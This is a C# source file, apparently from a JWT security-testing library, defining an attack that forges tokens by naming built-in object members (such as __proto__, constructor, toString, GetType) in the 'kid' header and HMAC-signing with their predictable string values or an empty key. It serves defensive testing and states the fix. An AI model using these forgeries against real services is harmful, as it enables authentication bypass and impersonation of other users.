using System.Text;
using CryptoAssert.Jwt.Jose;

namespace CryptoAssert.Jwt.Attacks;

/// <summary>
/// The kid names what every object has: a lookup by member name finds a method or a prototype where it expects a key, and its
/// text is known. CWE-1321; RFC 8725 3.10.
/// </summary>
internal sealed class KidPrototype : JwtAttack
{
    private static readonly (string Kid, string Key)[] Members =
    [
        ("__proto__", "[object Object]"),
        ("__proto__", "undefined"),
        ("constructor", "function Object() { [native code] }"),
        ("toString", "function toString() { [native code] }"),
        ("valueOf", "function valueOf() { [native code] }"),
        ("hasOwnProperty", "function hasOwnProperty() { [native code] }"),
        ("ToString", "System.String ToString()"),
        ("GetType", "System.Type GetType()"),
        ("GetHashCode", "Int32 GetHashCode()"),
        ("Equals", "Boolean Equals(System.Object)"),
        ("Count", "1"),
        ("Length", "1"),
    ];

    public override string Id => "CRY1084";

    public override JwtFamily Family => JwtFamily.KeyIdInjection;

    public override IReadOnlyList<int> Cwe => [1321, 470];

    public override IReadOnlyList<string> References => ["RFC 8725 3.10", "ASVS 9.1.3"];

    public override string Cause => "finds a member that every object has where kid should name a key";

    public override string Why => "what it finds is the same in every process, so anyone can become anyone";

    public override string Fix =>
        "look kid up in a Dictionary<string, SecurityKey> of your keys, never among the members of an object";

    internal override IReadOnlyList<string> ExplainedBy => ["CRY1020", "CRY1082"];

    internal override IEnumerable<Forgery> Forge(Attacker attacker)
    {
        foreach (var (kid, key) in Members)
        {
            yield return new Forgery(
                HmacJws.SignUnderKid(attacker.Token, kid, Encoding.UTF8.GetBytes(key)),
                $"kid {kid}, key \"{key}\"");
        }

        foreach (var kid in Members.Select(member => member.Kid).Distinct(StringComparer.Ordinal))
        {
            yield return new Forgery(HmacJws.SignUnderKid(attacker.Token, kid, []), $"kid {kid}, empty key");
        }
    }
}
